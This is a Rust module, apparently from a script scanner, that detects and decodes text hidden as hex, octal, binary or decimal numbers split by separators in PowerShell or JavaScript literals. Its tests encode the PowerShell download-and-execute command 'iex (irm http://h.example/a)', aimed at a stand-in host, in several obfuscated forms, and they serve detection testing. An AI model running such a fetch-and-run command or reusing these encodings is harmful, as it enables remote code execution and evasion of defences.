//! Texts written as numbers of another base between separators of any kind, in a literal that a script takes apart
//! (`'69z65z78'.Split('z') | % { [char][convert]::ToInt32($_, 16) }`, `parseInt(x, 8)`).
//!
//! No specification: read only where the script itself says the base, and where every number is a printable character.

use memchr::memmem;

use super::codes::between_quotes;

/// Numbers of one text at the least.
const SHORTEST: usize = 8;

/// Texts of one script, and literals that are tried, at the most.
const TEXTS: usize = 32;
const LITERALS: usize = 2_000;

/// Longest literal that is tried, in bytes.
const LONGEST: usize = 1 << 20;

/// Characters between two numbers at the most.
const GAP: usize = 4;

/// What turns the digits behind it into a number, the base behind a comma.
const READERS: [&str; 6] = [
    "toint16(",
    "toint32(",
    "toint64(",
    "tobyte(",
    "tochar(",
    "parseint(",
];

/// The texts, in the order of the source.
pub fn based_texts(source: &str) -> Vec<String> {
    let lower = source.to_ascii_lowercase();
    let bases = bases(&lower);
    let mut found: Vec<String> = Vec::new();
    if bases.is_empty() {
        return found;
    }
    let literals = between_quotes(source)
        .filter(|literal| literal.len() >= SHORTEST.saturating_mul(3) && literal.len() < LONGEST);
    for literal in literals.take(LITERALS) {
        let text = bases.iter().find_map(|base| read(literal, *base));
        if let Some(text) = text.filter(|text| !found.contains(text))
            && found.len() < TEXTS
        {
            found.push(text);
        }
    }
    found
}

/// The bases that a script in lower case names; 10 where it splits a text and makes characters of the pieces.
fn bases(lower: &str) -> Vec<u32> {
    let mut found = Vec::new();
    for reader in READERS {
        for at in memmem::find_iter(lower.as_bytes(), reader).take(TEXTS) {
            let rest = lower.get(at.saturating_add(reader.len())..);
            let rest = rest.unwrap_or_default();
            let rest = rest
                .get(..rest.floor_char_boundary(100))
                .unwrap_or_default();
            let base = rest.split(')').find_map(|piece| {
                let (_, base) = piece.rsplit_once(',')?;
                base.trim().parse().ok()
            });
            if let Some(base @ (2 | 8 | 16)) = base
                && !found.contains(&base)
            {
                found.push(base);
            }
        }
    }
    let has = |word: &str| memmem::find(lower.as_bytes(), word.as_bytes()).is_some();
    if has("split") && (has("[char]") || has("fromcharcode(")) {
        found.push(10);
    }
    found
}

/// What a literal says, where it is nothing but numbers of printable characters between separators.
fn read(literal: &str, base: u32) -> Option<String> {
    let is_digit = |c: char| c.is_digit(base);
    let start = literal.find(is_digit)?;
    let mut rest = literal.get(start..)?;
    let mut text = String::new();
    // Ends because each round takes a digit at least.
    while !rest.is_empty() {
        let end = rest.find(|c| !is_digit(c)).unwrap_or(rest.len());
        let (digits, behind) = rest.split_at_checked(end)?;
        let code = u32::from_str_radix(digits, base).ok()?;
        let c = char::from_u32(code)?;
        if !matches!(c, ' '..='~' | '\t' | '\r' | '\n') {
            return None;
        }
        text.push(c);
        let gap = behind.find(is_digit).unwrap_or(behind.len());
        if gap > GAP {
            return None;
        }
        rest = behind.get(gap..)?;
    }
    let letters = text.bytes().filter(u8::is_ascii_alphabetic).count();
    (text.len() >= SHORTEST && letters.saturating_mul(2) >= text.len()).then_some(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    const TEXT: &str = "iex (irm http://h.example/a)";

    fn written(digits: fn(u8) -> String, between: &str) -> String {
        TEXT.bytes().map(digits).collect::<Vec<_>>().join(between)
    }

    #[test]
    fn numbers_of_the_base_that_the_script_names_are_read_whatever_separates_them() {
        let hex = written(|byte| format!("{byte:x}"), "z");
        let octal = written(|byte| format!("{byte:o}"), "-");
        let binary = written(|byte| format!("{byte:b}"), "_");
        for source in [
            format!("-join('{hex}' -split 'z'|%{{[char][convert]::ToInt32($_,16)}})"),
            format!(
                "'{octal}'.split('-')|%{{([convert]::toint16(($_.ToString()), 8) -as [char])}}"
            ),
            format!("'{binary}'.split('_')|%{{[char]([Convert]::ToInt32($_,2))}}"),
            format!("var r = \"{octal}\".split(\"-\").map(x => parseInt(x, 8));"),
        ] {
            assert_eq!(based_texts(&source), [TEXT], "{source}");
        }
        let mixed: String = TEXT
            .bytes()
            .zip("~,;>u~,;>u~,;>u~,;>u~,;>u~,;".chars())
            .map(|(byte, sign)| format!("{byte}{sign}"))
            .collect();
        let source = format!("('{mixed}'.Split('~,;>u')|%{{[char][int]$_}}) -join ''");
        assert_eq!(based_texts(&source), [TEXT]);
    }

    #[test]
    fn other_literals_and_scripts_without_a_base_say_nothing() {
        let hex = written(|byte| format!("{byte:x}"), " ");
        for source in [
            format!("x = '{hex}'"),
            format!("[convert]::ToInt32($_,2) '{hex}'"),
            "[convert]::ToInt32($a,16); $b = '2024-11-27 10:15:30 01 02 03 04'".to_owned(),
            "parseInt(x, 16); y = 'ff00ff,00ff00,0000ff,aabbcc,ddeeff'".to_owned(),
        ] {
            assert_eq!(based_texts(&source), Vec::<String>::new(), "{source}");
        }
    }
}
